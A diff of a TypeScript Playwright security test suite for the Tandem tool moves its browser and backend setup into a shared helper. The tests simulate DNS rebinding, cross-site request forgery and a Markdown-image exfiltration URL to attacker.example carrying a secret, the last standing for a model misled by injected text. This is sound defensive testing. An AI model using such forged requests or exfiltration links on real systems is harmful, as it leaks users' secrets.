@@ -2,11 +2,9 @@
 // request forgery without a body, and a Markdown image planted in a model answer. The attacker's
 // pages are served by Playwright's router on names that chromium resolves to 127.0.0.1.
 import assert from 'node:assert/strict';
-import { mkdirSync, writeFileSync } from 'node:fs';
-import path from 'node:path';
-import { after, before, describe, test } from 'node:test';
+import { describe, test } from 'node:test';
 import type { Page } from 'playwright-core';
-import { RESULTS_DIR, api, launchBrowser, startBackend, type Backend, type Browser } from './harness';
+import { api, suite } from './harness';
 
 interface Project {
   id: number;
@@ -23,36 +21,27 @@ interface FileContent {
 }
 
 const SECRET = 'tandem-e2e-secret-4f1c';
-let backend: Backend;
-let browser: Browser;
 
-before(async () => {
-  mkdirSync(RESULTS_DIR, { recursive: true });
-  backend = await startBackend(0.01);
-  browser = await launchBrowser([
+const e2e = suite('security', {
+  pace: 0.01,
+  browserArgs: [
     '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP attacker.example 127.0.0.1',
     // Recent Chromium asks the user before a public page may reach loopback (Local Network
     // Access); Firefox, Safari and older Chromium do not, and the user may say yes. Off here, so
     // the server is what refuses.
     '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults',
-  ]);
-});
-
-after(async () => {
-  await browser?.close();
-  if (backend) writeFileSync(path.join(RESULTS_DIR, 'security-backend.log'), backend.log());
-  await backend?.stop();
+  ],
 });
 
 async function projectWithSecret(): Promise<number> {
-  const { id } = await api<Project>(backend.url, 'POST', '/projects', { name: 'victim', template: 'blank' });
-  await api(backend.url, 'PUT', `/projects/${id}/files/secret.txt`, { content: SECRET });
+  const { id } = await api<Project>(e2e.backend.url, 'POST', '/projects', { name: 'victim', template: 'blank' });
+  await api(e2e.backend.url, 'PUT', `/projects/${id}/files/secret.txt`, { content: SECRET });
   return id;
 }
 
 /** A page on `origin` whose HTML comes from the attacker (Playwright's router), not from Tandem. */
 async function attackerPage(origin: string): Promise<Page> {
-  const page = await browser.context.newPage();
+  const page = await e2e.browser.context.newPage();
   await page.route(`${origin}/`, (route) =>
     route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>cat pictures</title><p>cats</p>' }),
   );
@@ -62,7 +51,7 @@ async function attackerPage(origin: string): Promise<Page> {
 
 /** Runs the scripted model (not AI) to the end through the API; returns its first code change. */
 async function runWithChange(projectId: number): Promise<Change> {
-  const response = await api<{ code_changes: Change[] }>(backend.url, 'POST', `/chat/${projectId}`, {
+  const response = await api<{ code_changes: Change[] }>(e2e.backend.url, 'POST', `/chat/${projectId}`, {
     message: 'note this',
   });
   const [first] = response.code_changes;
@@ -73,8 +62,8 @@ async function runWithChange(projectId: number): Promise<Change> {
 describe('trust boundaries in the browser', () => {
   test('a page on a rebound host name can neither read, write nor run anything', async () => {
     const projectId = await projectWithSecret();
-    const filesBefore = await api<{ path: string }[]>(backend.url, 'GET', `/projects/${projectId}/files`);
-    const port = new URL(backend.url).port;
+    const filesBefore = await api<{ path: string }[]>(e2e.backend.url, 'GET', `/projects/${projectId}/files`);
+    const port = new URL(e2e.backend.url).port;
     // After DNS rebinding, evil.example:<port> is Tandem's address but the page is the attacker's:
     // for the browser every request below is same-origin.
     const page = await attackerPage(`http://evil.example:${port}`);
@@ -97,16 +86,16 @@ describe('trust boundaries in the browser', () => {
 
     assert.deepEqual([result.read, result.write, result.run], [421, 421, 421]);
     assert.ok(!result.body.includes(SECRET), 'the secret never reaches the page');
-    const files = await api<{ path: string }[]>(backend.url, 'GET', `/projects/${projectId}/files`);
+    const files = await api<{ path: string }[]>(e2e.backend.url, 'GET', `/projects/${projectId}/files`);
     assert.deepEqual(files, filesBefore, 'no file was written');
-    assert.deepEqual(await api<Session[]>(backend.url, 'GET', `/projects/${projectId}/sessions`), []);
+    assert.deepEqual(await api<Session[]>(e2e.backend.url, 'GET', `/projects/${projectId}/sessions`), []);
   });
 
   test('another site cannot revert changes with body-less POSTs or forms', async () => {
     const projectId = await projectWithSecret();
     const change = await runWithChange(projectId);
-    const changes = await api<{ run_id: string }[]>(backend.url, 'GET', `/projects/${projectId}/changes`);
-    const before = await api<FileContent>(backend.url, 'GET', `/projects/${projectId}/files/TANDEM_NOTES.md`);
+    const changes = await api<{ run_id: string }[]>(e2e.backend.url, 'GET', `/projects/${projectId}/changes`);
+    const before = await api<FileContent>(e2e.backend.url, 'GET', `/projects/${projectId}/files/TANDEM_NOTES.md`);
 
     const page = await attackerPage('http://attacker.example');
     await page.evaluate(
@@ -127,11 +116,11 @@ describe('trust boundaries in the browser', () => {
           form.submit();
         }
       },
-      { base: backend.url, changeId: change.id, runId: changes[0]?.run_id },
+      { base: e2e.backend.url, changeId: change.id, runId: changes[0]?.run_id },
     );
     // The server got every forged request (by fetch and by form) and refused it.
     const answered = (url: string, status: number) =>
-      backend.log().split(`"POST /api/v1${url} HTTP/1.1" ${status}`).length - 1;
+      e2e.backend.log().split(`"POST /api/v1${url} HTTP/1.1" ${status}`).length - 1;
     const forged = [`/changes/${change.id}/revert`, `/runs/${changes[0]?.run_id}/revert`];
     const deadline = Date.now() + 30_000;
     while (forged.some((url) => answered(url, 403) + answered(url, 200) < 2) && Date.now() < deadline) {
@@ -139,15 +128,15 @@ describe('trust boundaries in the browser', () => {
     }
     await page.close();
     for (const url of forged) assert.equal(answered(url, 403), 2, `${url}: both forged requests refused`);
-    const after = await api<Change>(backend.url, 'GET', `/changes/${change.id}`);
+    const after = await api<Change>(e2e.backend.url, 'GET', `/changes/${change.id}`);
     assert.equal(after.reverted, false, 'the change was not reverted');
-    const file = await api<FileContent>(backend.url, 'GET', `/projects/${projectId}/files/TANDEM_NOTES.md`);
+    const file = await api<FileContent>(e2e.backend.url, 'GET', `/projects/${projectId}/files/TANDEM_NOTES.md`);
     assert.equal(file.content, before.content);
   });
 
   test('a Markdown image in a model answer is shown as a link and never fetched', async () => {
     const projectId = await projectWithSecret();
-    const page = await browser.context.newPage();
+    const page = await e2e.browser.context.newPage();
     const requested: string[] = [];
     page.on('request', (r) => requested.push(r.url()));
     await page.addInitScript(() => {
@@ -155,7 +144,7 @@ describe('trust boundaries in the browser', () => {
       w.cspViolations = [];
       document.addEventListener('securitypolicyviolation', (e) => w.cspViolations.push(e.blockedURI));
     });
-    await page.goto(`${backend.url}/#/projects/${projectId}?file=secret.txt`);
+    await page.goto(`${e2e.backend.url}/#/projects/${projectId}?file=secret.txt`);
     await page.locator('[data-testid="code-editor"] .cm-content').waitFor();
     const leak = `http://attacker.example/leak?d=${SECRET}`;
     // The scripted model (not AI) quotes the request in its answer, as a model misled by a
